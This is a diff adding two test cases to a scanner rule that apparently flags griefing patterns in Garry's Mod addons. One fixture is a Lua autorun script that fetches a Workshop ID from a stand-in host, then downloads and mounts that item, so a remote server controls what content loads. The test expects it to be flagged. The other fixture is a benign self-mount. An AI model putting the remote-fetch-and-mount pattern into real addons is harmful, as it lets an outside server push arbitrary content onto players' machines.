@@ -46,4 +46,27 @@ describe('client_griefing', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a workshop item a web reply names, downloaded and mounted', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'http.Fetch("https://o.invalid/ws", function(id)',
+        '  steamworks.FileInfo(id, function(r)',
+        '    steamworks.Download(r.fileid, true, function(p) game.MountGMA(p) end)',
+        '  end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
+  });
+  it("a content pack mounting the addon's own workshop item (benign)", () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_x.lua': [
+        'steamworks.FileInfo("1234567890", function(r)',
+        '  if not r then return end',
+        '  steamworks.Download(r.fileid, true, function(p) if p then game.MountGMA(p) end end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
